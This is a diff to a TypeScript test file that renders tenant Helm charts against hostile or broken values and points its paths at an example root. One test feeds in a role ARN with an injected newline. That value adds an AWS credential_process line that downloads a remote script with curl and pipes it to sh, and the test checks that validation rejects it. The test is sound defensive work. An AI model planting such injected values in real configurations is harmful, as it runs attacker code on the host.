@@ -15,7 +15,7 @@ import { toolPath } from "../cli/fleet-render";
 import { tenantAddOnValueFiles } from "../components/fleet/application-set";
 import { parseFacts } from "../components/fleet/facts";
 import { LOCAL_CHARTS } from "../facts/fleet";
-import { plan } from "./helpers";
+import { exampleRoot, plan } from "./helpers";
 
 describe("the tenant local charts' values.schema.json", () => {
   it("are written by the central stack with every tenant's shared values", async () => {
@@ -41,7 +41,7 @@ describe("the tenant local charts against hostile or broken values", function ()
 
   /** acme's add-on rendered with `tenant` over its own values (in the tenant's place) and `facts` over its facts: the objects, or Helm's error. */
   function render(addon: keyof typeof charts, edits: { tenant?: Record<string, unknown>; facts?: Record<string, unknown> }): { objects: any[]; error: string } {
-    const all = tenantAddOnValueFiles("dev", "acme", addon).map((f) => path.join(PROJECT_ROOT, f));
+    const all = tenantAddOnValueFiles("dev", "acme", addon).map((f) => path.join(exampleRoot(), f));
     const [own, facts, shared] = [all[0], all.slice(1, -1), all[all.length - 1]];
     const extra = (name: string, v: Record<string, unknown> | undefined) => {
       if (!v) return [];
@@ -50,7 +50,7 @@ describe("the tenant local charts against hostile or broken values", function ()
       return [f];
     };
     const files = [own, ...extra("tenant", edits.tenant), ...facts, ...extra("facts", edits.facts), shared];
-    const run = spawnSync(helm as string, ["template", addon, path.join(PROJECT_ROOT, charts[addon]), "--namespace", "tenant-acme", ...files.flatMap((f) => ["--values", f])], { encoding: "utf8" });
+    const run = spawnSync(helm as string, ["template", addon, path.join(exampleRoot(), charts[addon]), "--namespace", "tenant-acme", ...files.flatMap((f) => ["--values", f])], { encoding: "utf8" });
     return { objects: run.status === 0 ? parseAllDocuments(run.stdout).map((d) => d.toJS()).filter(Boolean) : [], error: run.stderr };
   }
 
@@ -111,7 +111,7 @@ describe("the tenant local charts against hostile or broken values", function ()
   it("refuse a role ARN that would add a line to the edge-agent's AWS config (credential_process runs a command)", () => {
     const arn = "arn:aws:iam::444455556666:role/clusterra-dev-acme-edge-agent\ncredential_process = sh -c 'curl -s https://example.com/x | sh'";
     assert.match(render("edge-agent", { facts: { edgeAgentRoleArn: arn } }).error, /at '\/edgeAgentRoleArn': .* does not match pattern/);
-    const facts = parseFacts("tenant", fs.readFileSync(path.join(PROJECT_ROOT, "fleet/tenants/dev/acme/facts.yaml"), "utf8").replace(/^edgeAgentRoleArn: .*$/m, `edgeAgentRoleArn: ${JSON.stringify(arn)}`));
+    const facts = parseFacts("tenant", fs.readFileSync(path.join(exampleRoot(), "fleet/tenants/dev/acme/facts.yaml"), "utf8").replace(/^edgeAgentRoleArn: .*$/m, `edgeAgentRoleArn: ${JSON.stringify(arn)}`));
     assert.ok("problems" in facts && facts.problems.some((p) => p.key === "edgeAgentRoleArn"), JSON.stringify(facts));
   });
 });
